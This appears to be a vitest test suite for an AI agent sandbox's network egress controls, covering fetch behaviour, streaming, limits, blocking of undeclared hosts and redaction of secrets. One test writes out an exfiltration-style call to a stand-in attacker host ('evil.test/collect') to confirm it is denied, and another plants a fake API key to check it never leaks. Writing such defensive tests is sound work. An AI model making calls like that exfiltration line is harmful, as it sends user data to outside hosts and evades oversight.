import { createHash } from 'node:crypto'
import type { IncomingMessage, ServerResponse } from 'node:http'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { eventually } from '../../../test/support/eventually.ts'
import type { EgressGrant, Execution, LogEntry, Sandbox } from '../sandbox.types.ts'
import { aSandbox, endOf, outputOf, runSource, type RunOptions } from '../testing/a-sandbox.ts'
import { bodyOf, startWebServer } from './testing/local-servers.ts'

const VALUE = 'sk-live-4f9a7d2c81e35b60'
let sandbox: Sandbox
let server: Awaited<ReturnType<typeof startWebServer>>
let base: string
let handle: (request: IncomingMessage, response: ServerResponse) => void | Promise<void> = (_, response) => {
  response.end()
}

beforeAll(async () => {
  server = await startWebServer((request, response) => handle(request, response))
  base = `http://127.0.0.1:${server.port}`
  sandbox = await aSandbox({
    BUREAU_SANDBOX_BLANKS: '1',
    BUREAU_EGRESS_PRIVATE_HOSTS: `127.0.0.1:${server.port}`,
  })
}, 60_000)
afterAll(async () => {
  await sandbox.stop()
  await server.close()
})

/** Runs an agent that may reach the server of this file, with the server's address as its input. */
function run(
  source: string,
  options: RunOptions = {},
  secrets: EgressGrant['secrets'] = new Map(),
): Promise<Execution> {
  return runSource(sandbox, source, base, { egress: { hosts: [`127.0.0.1:${server.port}`], secrets }, ...options })
}

const withKey = () => new Map([['KEY', { value: VALUE, hosts: [`127.0.0.1:${server.port}`] }]])

test('fetch inside a run is the fetch of everywhere: JSON, headers, forms, statuses, redirects', async () => {
  handle = async (request, response) => {
    if (request.url === '/old') return void response.writeHead(301, { location: '/new' }).end()
    response.writeHead(request.url === '/missing' ? 404 : 200, { 'content-type': 'application/json', 'x-a': 'b' })
    response.end(
      JSON.stringify({ url: request.url, type: request.headers['content-type'], body: await bodyOf(request) }),
    )
  }
  const execution = await run(`export default async (base, ctx) => {
    const posted = await fetch(base + '/json', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ a: 'ü' }) })
    const form = new FormData()
    form.set('file', new Blob(['content']), 'a.txt')
    const sent = await (await ctx.fetch(new Request(base + '/form', { method: 'POST', body: form }))).json()
    const missing = await fetch(base + '/missing')
    const moved = await fetch(new URL('/old', base))
    return {
      posted: await posted.json(), ok: posted.ok, header: posted.headers.get('x-a'), 
      form: [sent.type.split(';')[0], sent.body.includes('content')],
      missing: missing.status, moved: [moved.redirected, moved.url, (await moved.json()).url],
    }
  }`)
  expect(outputOf(execution)).toEqual({
    posted: { url: '/json', type: 'application/json', body: '{"a":"ü"}' },
    ok: true,
    header: 'b',
    form: ['multipart/form-data', true],
    missing: 404,
    moved: [true, `${base}/new`, '/new'],
  })
  const [host] = execution.egress
  expect(host).toMatchObject({ host: `127.0.0.1:${server.port}`, requests: 5, refused: 0 })
})

test('bodies of many megabytes stream both ways, unchanged', async () => {
  handle = async (request, response) => {
    for await (const chunk of request) if (!response.write(chunk)) await new Promise((go) => response.once('drain', go))
    response.end()
  }
  const execution = await run(
    `const hex = async (bytes) => [...new Uint8Array(await crypto.subtle.digest('SHA-256', bytes))].map((b) => b.toString(16).padStart(2, '0')).join('')
    export default async (base) => {
      const piece = new Uint8Array(300_000).map((_, at) => at * 7)
      let left = 40
      const body = new ReadableStream({ pull(to) { left-- > 0 ? to.enqueue(piece) : to.close() } })
      const answer = await fetch(base, { method: 'POST', body, duplex: 'half' })
      const parts = []
      for await (const chunk of answer.body) parts.push(chunk)
      const whole = new Uint8Array(await new Blob(parts).arrayBuffer())
      return [whole.length, await hex(whole)]
    }`,
  )
  const piece = Buffer.alloc(300_000).map((_, at) => at * 7)
  const whole = createHash('sha256')
  for (let at = 0; at < 40; at++) whole.update(piece)
  expect(outputOf(execution)).toEqual([12_000_000, whole.digest('hex')])
  expect(execution.egress[0]?.sentBytes).toBeGreaterThan(12_000_000)
  expect(execution.egress[0]?.receivedBytes).toBe(12_000_000)
}, 30_000)

test('an answer is read as it comes: the first event before the second is sent', async () => {
  let goOn = (): void => {}
  handle = async (request, response) => {
    if (request.url === '/seen') return (goOn(), void response.end())
    response.write('data: one\n\n')
    await new Promise<void>((resolve) => (goOn = resolve))
    response.end('data: two\n\n')
  }
  const execution = await run(`export default async (base) => {
    const heard = []
    const answer = await fetch(base + '/events')
    for await (const text of answer.body.pipeThrough(new TextDecoderStream())) {
      heard.push(text)
      if (heard.length === 1) await fetch(base + '/seen')
    }
    return heard
  }`)
  expect(outputOf(execution)).toEqual(['data: one\n\n', 'data: two\n\n'])
})

test.each([
  ['a host that is not declared', `fetch('https://evil.test/collect?data=1')`, "egress: ['evil.test']"],
  ['an address of the machine', `fetch('http://127.0.0.1:1/')`, "egress: ['127.0.0.1:1']"],
])('%s ends the run as EGRESS_DENIED, named with what the manifest would need', async (_, expression, named) => {
  const execution = await run(`export default async () => (await ${expression}).status`)
  expect(endOf(execution)).toBe('EGRESS_DENIED')
  expect(execution).toMatchObject({ message: expect.stringContaining(named) })
  expect(execution.egress).toMatchObject([{ requests: 1, refused: 1 }])
})

test('what the network does is an ordinary error to the agent, which can go on', async () => {
  handle = (_request, response) => void response.destroy()
  const execution = await run(`export default async (base) => {
    try { await fetch(base) } catch (error) { return [error.name, error.message] }
  }`)
  expect(outputOf(execution)).toEqual(['TypeError', 'The connection was broken off'])
})

test('an aborted fetch rejects in the agent and closes the connection while the run goes on', async () => {
  const seen = Promise.withResolvers<void>()
  const closed = Promise.withResolvers<void>()
  handle = async (request, response) => {
    if (request.url === '/slow') {
      response.once('close', closed.resolve)
      return seen.resolve()
    }
    await (request.url === '/seen' ? seen.promise : closed.promise)
    response.end()
  }
  const execution = await run(`export default async (base) => {
    const stop = new AbortController()
    const slow = fetch(base + '/slow', { signal: stop.signal })
    await fetch(base + '/seen')
    stop.abort(new Error('enough'))
    const why = await slow.catch((error) => error.message)
    await fetch(base + '/closed')
    return why
  }`)
  expect(outputOf(execution)).toBe('enough')
})

test('a run that ends leaves no connection behind, and its sandbox serves the next', async () => {
  let open = 0
  handle = (request, response) => {
    open++
    request.socket.once('close', () => open--)
    response.write('endless')
  }
  const source = `export default async (base) => { (await fetch(base)).body.getReader().read(); fetch(base); return 'done' }`
  for (let at = 0; at < 3; at++) {
    const execution = await run(source, { isolationKey: 'one' })
    expect([outputOf(execution), execution.startedCold]).toEqual(['done', at === 0])
  }
  await eventually(() => expect(open).toBe(0), { withinMs: 2_000 })
})

test.each([
  ['asks more often', { egressRequests: 3 }, '/', /at most 3 requests/],
  ['moves more bytes', { egressBytes: 5_000 }, '/large', /at most 5000 bytes/],
])(
  'a run that %s than its manifest says ends with EGRESS_LIMIT and its sandbox, whatever it catches',
  async (_, limits, path, words) => {
    handle = (request, response) => void response.end(request.url === '/large' ? 'x'.repeat(4_000) : 'hello')
    const source = `export default async (base) => {
    for (let n = 0; n < 10; n++) await fetch(base + '${path}').then((answer) => answer.text()).catch(() => 0)
    return 'went on'
  }`
    const ended = await run(source, { isolationKey: `limit ${path}`, limits })
    expect(endOf(ended)).toBe('EGRESS_LIMIT')
    expect(ended.kind === 'failed' && ended.message).toMatch(words)
    const next = await run('export default () => 1', { isolationKey: `limit ${path}` })
    expect([endOf(next), next.startedCold]).toEqual(['succeeded', true])
    // The agent's own bound is never more than the site's.
    expect(endOf(await run(source, { limits: { egressRequests: 1_000_000, egressBytes: 1_000_000_000 } }))).toBe(
      'succeeded',
    )
  },
)

test('twenty requests at once are all answered', async () => {
  handle = (request, response) => void response.end(request.url)
  const execution = await run(`export default async (base) =>
    (await Promise.all(Array.from({ length: 20 }, async (_, at) => (await fetch(base + '/' + at)).text()))).join()`)
  expect(outputOf(execution)).toBe(Array.from({ length: 20 }, (_, at) => `/${at}`).join())
})

test('a secret reaches its host, and is neither in the sandbox’s memory nor in output, logs, events or errors', async () => {
  const seen: (string | undefined)[] = []
  handle = (request, response) => {
    seen.push(request.headers.authorization)
    response.writeHead(200, { 'x-echo': request.headers.authorization ?? '' })
    response.end(`you sent ${request.headers.authorization}`)
  }
  const logs: LogEntry[] = []
  const progress: string[] = []
  const options: RunOptions = {
    onLog: (entry) => logs.push(entry),
    onProgress: (_, text) => progress.push(text),
    limits: { memoryMb: 512, timeoutMs: 30_000 },
  }
  const heap = `import { getHeapSnapshot } from 'node:v8'
    const search = async (pattern) => {
      let found = 0, total = 0, tail = ''
      const decoder = new TextDecoder()
      for await (const chunk of getHeapSnapshot()) {
        const part = tail + decoder.decode(chunk, { stream: true })
        total += chunk.length
        found += (part.match(pattern) ?? []).length
        tail = part.slice(-200)
      }
      return { found, total }
    }
    export default async (base, ctx) => {
      const answer = await fetch(base, { headers: { authorization: 'Bearer ' + ctx.secret('KEY') } })
      const text = await answer.text()
      ctx.log.info(text, { echo: answer.headers.get('x-echo') })
      ctx.progress(1, text)
      globalThis.control = new TextDecoder().decode(new TextEncoder().encode('control-' + Math.floor(1e9 + Math.random() * 1e9)))
      return { text, unset: ctx.secret('OTHER'), secret: await search(/sk-live-[0-9a-f]{16}/g), control: await search(/control-[0-9]{10}/g) }
    }`
  const execution = await run(heap, options, withKey())
  expect(seen).toEqual([`Bearer ${VALUE}`])
  const output = outputOf(execution)
  expect(output).toMatchObject({ text: 'you sent Bearer [secret KEY]', unset: null })
  expect(JSON.stringify([execution, output, logs, progress])).not.toContain('4f9a7d2c81')
  expect(output).toMatchObject({ secret: { found: 0 }, control: { found: expect.any(Number) } })
  // The search does find what is there.
  expect(output).not.toMatchObject({ control: { found: 0 } })
  const thrown = await run(
    `export default async (base, ctx) => { throw new Error(await (await fetch(base, { headers: { authorization: ctx.secret('KEY') } })).text()) }`,
    {},
    withKey(),
  )
  expect(thrown).toMatchObject({ kind: 'failed', message: 'you sent [secret KEY]' })
}, 60_000)

test('an agent that came by a secret all the same puts it into no file: not its name, nor where it is cut', async () => {
  const files = new Map<string, { type: string; bytes: Buffer }>()
  const execution = await run(
    `export default async (base, ctx) => {
      const text = 'x'.repeat(262_140) + ctx.runId.slice(0, 0) + '${VALUE}' + 'y'.repeat(1_000)
      await ctx.artifacts.put('of-${VALUE}.txt', new TextEncoder().encode(text), { type: 'text/plain' })
    }`,
    {
      async storeArtifact({ name, type, content }) {
        const chunks: Uint8Array[] = []
        for await (const chunk of content) chunks.push(chunk)
        files.set(name, { type, bytes: Buffer.concat(chunks) })
      },
    },
    withKey(),
  )
  expect(execution.kind).toBe('succeeded')
  const file = files.get('of-[secret KEY].txt')
  const stars = '*'.repeat(VALUE.length)
  expect(file?.bytes.equals(Buffer.from(`${'x'.repeat(262_140)}${stars}${'y'.repeat(1_000)}`))).toBe(true)
})

test.each([
  ['data that nobody asked for', `{"t":"fetch_data","id":0,"bytes":2}\\nxx`.repeat(3)],
  [
    'a request twice',
    `{"t":"fetch","id":7,"url":"BASE","method":"GET","headers":[],"redirect":"follow","body":false}\\n`.repeat(2),
  ],
  ['a piece that is too large', `{"t":"fetch_data","id":0,"bytes":99999999}\\n`],
])('a guest that breaks the protocol of fetch is ended: %s', async (_, frames) => {
  handle = async (request) => void (await bodyOf(request))
  const begin = `{"t":"fetch","id":0,"url":"BASE","method":"POST","headers":[],"redirect":"follow","body":true}\\n`
  const execution = await run(`const { core } = Deno[Deno.internal]
    export default async (base) => {
      const say = (text) => core.writeSync(1, new TextEncoder().encode(text.replaceAll('BASE', base)))
      say(\`${begin}${frames}\`)
      await new Promise((resolve) => setTimeout(resolve, 3000))
    }`)
  expect(endOf(execution)).toBe('AGENT_PROTOCOL_VIOLATION')
})
